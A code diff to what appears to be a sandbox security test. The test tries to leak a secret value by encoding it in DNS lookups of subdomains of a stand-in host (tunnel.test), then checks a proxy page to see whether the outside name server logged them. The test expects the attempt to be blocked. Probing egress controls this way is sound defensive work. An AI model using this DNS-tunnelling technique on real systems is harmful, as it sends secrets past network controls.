@@ -1,19 +1,16 @@
 # tries: send data out in the names of questions
-# control: blocked because the world only hears of allowed names
+# control: blocked because the world only hears of names that are connected to
 # blocked: not-asked
 def send():
     for part in range(5):
-        code, _ = resolved(f"data{part}-{secret()[:20].hex()}.tunnel.test")
-        if code != 3:
-            raise Blocked(f"code-{code}")
-    if heard("tunnel.test"):
+        resolved(f"data{part}-{secret()[:20].hex()}.tunnel.test")
+    heard = by_proxy("http://allowed.test/asked")
+    # To fetch that page, this name was looked up: who does not find it would find nothing.
+    if b"allowed.test" not in heard:
+        raise ValueError(f"the name server outside does not say what it heard: {heard[:200]}")
+    if b"tunnel.test" in heard:
         return "the questions were heard outside"
     raise Blocked("not-asked")
-
-
-def heard(what):
-    """Whether the name server outside heard of it; it says so in a page of the allowed host."""
-    return what.encode() in by_proxy("http://allowed.test/asked").split(b"\r\n\r\n", 1)[1].replace(b"GOOD", b"")
 
 
 attempt(send)
